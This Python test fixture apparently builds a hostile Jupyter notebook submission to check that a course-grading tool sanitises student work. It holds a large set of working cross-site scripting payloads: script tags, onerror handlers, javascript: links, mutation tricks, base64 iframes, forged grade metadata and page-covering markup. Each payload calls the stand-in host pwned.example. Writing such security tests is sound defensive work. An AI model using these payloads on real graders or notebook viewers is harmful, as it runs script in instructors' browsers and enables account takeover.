"""A submission that tries by every way to run a script in the browser of who looks at it.

Each attack has a name; one that succeeds asks for ``http://pwned.example/<name>``.
"""

from __future__ import annotations

import base64
from typing import Any

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell
from small_course import solved

HOST = "pwned.example"

#: A picture of one point.
PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGP4z8AAAAMBAQDJ/pLvAAAAAElFTkSuQmCC"
)

#: The attacks that fail on nbconvert's own pages, too; no settings of the course may help them.
VAIN = set(
    "md-math md-mutation md-noscript out-latex out-plain out-png out-stream out-traceback raw svg "
    "tag".split()
)


def call(name: str) -> str:
    """JavaScript that tells of the attack ``name``; it needs neither quotes nor spaces."""
    return f"fetch(`http://{HOST}/{name}`)"


#: What a student can write in Markdown.
MARKDOWN = [
    f"<script>{call('md-script')}</script>",
    f'<img src="x" onerror="{call("md-error")}">',
    f'<svg onload="{call("md-svg")}"></svg>',
    f'<iframe srcdoc="<script>{call("md-frame")}</script>"></iframe>',
    f'<details open ontoggle="{call("md-details")}">x</details>',
    f'<style>@keyframes a{{}}</style><b style="animation:a 1s" onanimationstart="{call("md-b")}">',
    f"<style>html{{background:url(http://{HOST}/md-style)}}</style>",
    f"![x](http://{HOST}/md-picture)",
    f'<link rel="stylesheet" href="http://{HOST}/md-stylesheet">',
    f'<object data="http://{HOST}/md-object"></object>',
    f'$x <img src="x" onerror="{call("md-math")}">$',
    f"<!-- > --!><img src=x onerror={call('md-comment')}>",
    f'<textarea></textarea><img src=x onerror="{call("md-textarea")}">',
    f'<noscript><p title="</noscript><img src=x onerror={call("md-noscript")}>">',
    "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=x onerror={call("md-mutation")}&gt;">',
]

#: Links that must lead nowhere: to a script, or into the instructor's JupyterLab.
LINKS = f"""\
[a](javascript:{call("link")})
[b](JaVaScRiPt&colon;{call("link")})
[c](files/javascript:{call("link")})
[d](work.html)
[e](http:work.html)
[f](//{HOST}/x)
[g](/formgrader?path=/tmp)
[h](data:text/html,x)
<a href="java\tscript:{call("link")}">i</a>
"""

#: Markup that lies over the page, leaves its place in it, or plays the part of formgrader's own.
COVER = """\
<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">cover</div>

<div class="navbar-fixed-top" style="height:9999px">cover</div>

<b class="full-credit" id="q_double">take it</b>

# q_double

<form action="x"><button>Send</button><input autofocus></form>

</div></div></div></div></div></div><p>outside</p>
"""

#: What its reader is to see as it was meant.
HONEST = """\
It is `a <b> b` if a < b & "quoted" text; $p_i < q_i$ and [the docs](https://numpy.org/?a=1&b=2).

| name | value |
|:-----|------:|
| one  |     1 |

```python
print("<b>not bold</b>")
```
"""

CODE = """\
import matplotlib.pyplot as plt
import pandas as pd
plt.plot([1, 2])
plt.show()
pd.DataFrame({"made": ["by <b>pandas</b>"]})"""


def submission() -> NotebookNode:
    """The small course's notebook with the attacks that can be handed in."""
    notebook = solved()
    answer = next(cell for cell in notebook.cells if cell.id == "q_double")
    answer.source = HONEST + "\n" + LINKS.replace("\n", "\n\n") + COVER
    notebook.cells += [new_markdown_cell(source) for source in MARKDOWN]
    notebook.cells += [
        new_code_cell(CODE),
        new_code_cell("from IPython.display import HTML\n" + f"HTML({_script('ran')!r})"),
        new_raw_cell(_script("raw")),
    ]
    return notebook


def forged() -> list[NotebookNode]:
    """Cells that a graded notebook may hold, whoever put them there."""
    named = new_markdown_cell("Named.")
    name = f'"><script>{call("name")}</script>'
    named.metadata["nbgrader"] = {"grade_id": name, "grade": True, "solution": True, "points": 1}
    named.metadata["nbgrader"] |= {"locked": False, "task": False, "schema_version": 3}
    tags = [f'"><script>{call("tag")}</script>', "x navbar-fixed-top"]
    return [named, new_code_cell("1", outputs=_outputs(), metadata={"tags": tags})]


def _outputs() -> list[NotebookNode]:
    isolated = {"text/html": {"isolated": True}}
    width = {"image/png": {"width": f"1 onerror={call('out-width')}"}}
    elsewhere = {"filenames": {"image/jpeg": f"http://{HOST}/out-filename"}}
    return [
        _shown("text/html", _script("out-script")),
        _shown("text/html", f'<img src=x onerror="{call("out-error")}">'),
        _shown("text/html", _frame("out-frame")),
        _shown("text/html", _script("out-isolated"), isolated),
        _shown("text/html", f"<style>body{{background:url(http://{HOST}/out-style)}}</style>"),
        _shown("text/markdown", f'<img src=x onerror="{call("out-markdown")}">'),
        _shown("text/latex", f'$x$<img src=x onerror="{call("out-latex")}">'),
        _shown("text/plain", f'<img src=x onerror="{call("out-plain")}">'),
        _shown("image/svg+xml", f'<svg xmlns="http://www.w3.org/2000/svg">{_script("svg")}</svg>'),
        _shown("application/javascript", call("out-javascript")),
        _shown("image/png", f'x" onerror="{call("out-png")}'),
        _shown("image/png", "x", width),
        _shown("image/jpeg", "x", elsewhere),
        new_output("stream", text=f'\x1b[<img src=x onerror="{call("out-stream")}">'),
        new_output(
            "error",
            ename="Error",
            evalue="",
            traceback=[f'\x1b[31m<img src=x onerror="{call("out-traceback")}">\x1b[0m'],
        ),
    ]


def _script(name: str) -> str:
    return f"<script>{call(name)}</script>"


def _frame(name: str) -> str:
    text = base64.b64encode(_script(name).encode()).decode()
    return f'<iframe src="data:text/html;base64,{text}"></iframe>'


def _shown(kind: str, data: str, metadata: dict[str, Any] | None = None) -> NotebookNode:
    return new_output("display_data", data={kind: data}, metadata=metadata or {})
